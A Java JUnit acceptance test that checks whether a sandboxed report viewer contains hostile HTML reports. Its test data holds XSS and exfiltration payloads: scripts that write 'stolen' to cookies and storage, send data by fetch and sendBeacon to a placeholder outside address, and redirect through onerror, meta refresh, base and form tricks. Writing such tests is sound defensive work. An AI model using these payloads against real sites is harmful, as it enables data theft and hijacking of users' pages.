package org.plyspace.acceptance;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.condition.DisabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.plyspace.testing.InWholeForm;

/** A file that only looks like a report reaches neither the page that shows it, nor its server, nor any other address. */
@DisabledOnOs(value = OS.WINDOWS, disabledReason = "the browser is looked for as on POSIX")
@InWholeForm
class PageHostileReportsTest extends OnThePage {

    private static final String OPEN =
            "sandbox allow-scripts allow-same-origin allow-popups allow-forms allow-modals allow-top-navigation; "
                    + "default-src * data: blob: &#39;unsafe-inline&#39; &#39;unsafe-eval&#39;; connect-src *; form-action *; base-uri *";

    private static final String ALL_AT_ONCE = """
            const quietly = act => { try { act(); } catch (refused) { /* as it should */ } };
            quietly(() => localStorage.setItem('stolen', 'yes'));
            quietly(() => { document.cookie = 'stolen=yes'; });
            for (const address of ['ELSEWHERE', location.origin + '/api/games', '/api/games']) {
              quietly(() => fetch(address, {method: 'POST', headers: {'Content-Type': 'application/json'},
                  body: '{"variant":"cube:n=4"}'}).catch(() => {}));
              quietly(() => fetch(address, {mode: 'no-cors'}).catch(() => {}));
              quietly(() => { new Image().src = address; });
              quietly(() => navigator.sendBeacon(address, 'stolen'));
              quietly(() => new WebSocket(address.replace('http', 'ws')));
              quietly(() => new EventSource(address));
              quietly(() => open(address));
              quietly(() => { const frame = document.createElement('iframe'); frame.src = address; document.body.append(frame); });
            }
            """;

    @TempDir
    private static Path folder;

    private static Path reports;
    private static ServedPage own;
    private static ServerSocket elsewhere;
    private static ServerSocket open;
    private static final AtomicInteger CONNECTIONS = new AtomicInteger();
    private static final AtomicInteger REQUESTS = new AtomicInteger();

    @BeforeAll
    static void serve() throws IOException {
        elsewhere = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        listen(elsewhere, socket -> {
            CONNECTIONS.incrementAndGet();
            if (socket.getInputStream().read() >= 0) {
                REQUESTS.incrementAndGet();
            }
        });
        open = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        listen(open, PageHostileReportsTest::showNothing);
        reports = Files.createDirectory(folder.resolve("reports"));
        own = ServedPage.start(
                folder, Files.createDirectory(folder.resolve("plugins")), "--reports", reports.toString());
    }

    @AfterAll
    static void stop() throws IOException {
        own.close();
        elsewhere.close();
        open.close();
    }

    /** What becomes of a connection. */
    private interface Deed {

        void with(Socket socket) throws IOException;
    }

    private static void listen(ServerSocket at, Deed deed) {
        daemon(() -> {
            while (true) {
                Socket socket = at.accept();
                daemon(() -> {
                    try (socket) {
                        deed.with(socket);
                    }
                });
            }
        });
    }

    /** Does something until a connection is closed, or the test is over. */
    private static void daemon(Deeds deeds) {
        Thread thread = new Thread(
                () -> {
                    try {
                        deeds.run();
                    } catch (IOException closed) {
                        return;
                    }
                },
                "elsewhere");
        thread.setDaemon(true);
        thread.start();
    }

    /** What a thread does. */
    private interface Deeds {

        void run() throws IOException;
    }

    /** Answers with an empty page. */
    private static void showNothing(Socket socket) throws IOException {
        BufferedReader asked =
                new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8));
        String line = asked.readLine();
        while (line != null && !line.isEmpty()) {
            line = asked.readLine();
        }
        socket.getOutputStream()
                .write("HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                        .getBytes(StandardCharsets.UTF_8));
    }

    /** Lets the page do what it can, until the browser has asked another address for another page, which it does later. */
    private static void awaitDeeds() {
        browser.outOfFrame();
        browser.awaitIdle();
        String tab = browser.tab();
        browser.newTab();
        browser.go("http://127.0.0.1:" + open.getLocalPort() + "/");
        browser.closeTab();
        browser.look(tab);
        browser.intoFrame();
    }

    private static String address() {
        return "http://127.0.0.1:" + elsewhere.getLocalPort() + "/";
    }

    static List<String> policies() {
        return List.of(
                OPEN,
                "sandbox allow-scripts allow-same-origin; default-src &#39;unsafe-inline&#39; &#39;self&#39;",
                "default-src &#39;none&#39;, sandbox allow-scripts allow-same-origin, " + OPEN,
                "script-src &#39;unsafe-inline&#39;; connect-src *; navigate-to *",
                "");
    }

    /** Shows a report, and looks into its frame, if it has one. */
    private static void show(String policy, String body) throws IOException, InterruptedException {
        browser.go(own.at("reports"));
        browser.run("localStorage.clear()");
        CONNECTIONS.set(0);
        REQUESTS.set(0);
        Files.writeString(
                reports.resolve("evil.html"),
                "<!DOCTYPE html>\n<meta http-equiv=\"Content-Security-Policy\" content=\"" + policy
                        + "\">\n<title>evil</title>\n" + "<body>" + body.replace("ELSEWHERE", address()) + "\n");
        String id = (String)
                browser.run("return fetch('/api/reports').then(told => told.json()).then(told => told.reports[0].id)");
        browser.go(own.at("reports/" + id));
        awaitDeeds();
    }

    /** What came of it. */
    private static void assertContained(String shown) {
        browser.outOfFrame();
        browser.console();
        assertEquals(0, REQUESTS.get(), "another address was asked");
        assertEquals(shown, browser.run("return location.pathname.replace(/[0-9a-f]{16}/, 'id')"), "it went elsewhere");
        assertEquals(1, browser.tabs(), "it opened a window");
        browser.go(own.at("reports"));
        assertEquals(
                "",
                browser.run(
                        "return Object.keys(localStorage).filter(key => key === 'stolen').join() + document.cookie"));
        assertEquals(
                0L,
                browser.run("return fetch('/api/games').then(told => told.json()).then(told => told.games.length)"),
                "it played");
    }

    @ParameterizedTest
    @MethodSource("policies")
    void itsScriptsDoNotRunWhateverPolicyItBrings(String policy) throws IOException, InterruptedException {
        show(
                policy,
                "<script>" + ALL_AT_ONCE + " window.ran = true; location = 'ELSEWHERE';</script>"
                        + "<img src='x' onerror=\"location = 'ELSEWHERE'\"><svg onload=\"top.location = 'ELSEWHERE'\"></svg>");

        assertEquals(true, browser.run("return window.ran === undefined && origin === 'null'"));
        assertContained("/reports/id");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "<meta http-equiv='refresh' content='0; url=ELSEWHERE'>",
                "<meta http-equiv='refresh' content='0; url=/api/games'>",
                "<META/HTTP-EQUIV=refresh content='0; url=ELSEWHERE'>",
                "<base href='ELSEWHERE'><img src='a.png'><link rel='stylesheet' href='a.css'><script src='a.js'></script>",
                "<base target='_top'><form action='ELSEWHERE'><button autofocus>go</button></form>",
                "<iframe src='ELSEWHERE'></iframe><object data='ELSEWHERE'></object><embed src='ELSEWHERE'>",
                "<link rel='prefetch' href='ELSEWHERE'><link rel='preload' as='image' href='ELSEWHERE'>",
                "<link rel='preconnect' href='ELSEWHERE'><link rel='modulepreload' href='ELSEWHERE'>",
                "<script type='speculationrules'>{'prefetch':[{'urls':['ELSEWHERE']}]}</script>",
                "<img src='ELSEWHERE'><svg><image href='ELSEWHERE'/></svg><script src='ELSEWHERE'></script>",
                "<style>@import 'ELSEWHERE'; body { background: url(ELSEWHERE) }</style><video src='ELSEWHERE' autoplay></video>"
            })
    void itsMarkupReachesNobody(String markup) throws IOException, InterruptedException {
        show(OPEN, markup);

        assertEquals(0, CONNECTIONS.get(), "another address was called");
        assertContained("/reports/id");
    }

    /** Even if a script of it ran: one that the browser's driver runs is asked for no digest. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "all",
                "location = 'ELSEWHERE'",
                "location = '/api/games'",
                "top.location = 'ELSEWHERE'",
                "parent.document.title = 'stolen'",
                "open('ELSEWHERE')",
                "document.body.innerHTML = '<a target=_top href=ELSEWHERE>x</a>'; document.querySelector('a').click()",
                "document.body.innerHTML = '<a ping=ELSEWHERE href=ELSEWHERE>x</a>'; document.querySelector('a').click()",
                "document.body.innerHTML = '<form action=ELSEWHERE></form>'; document.forms[0].submit()"
            })
    void aScriptOfItsOwnWouldReachNobody(String script) throws IOException, InterruptedException {
        show(OPEN, "numbers");

        browser.run("try { " + (script.equals("all") ? ALL_AT_ONCE : script).replace("ELSEWHERE", address())
                + " } catch (refused) { }");
        awaitDeeds();

        assertContained("/reports/id");
    }
}
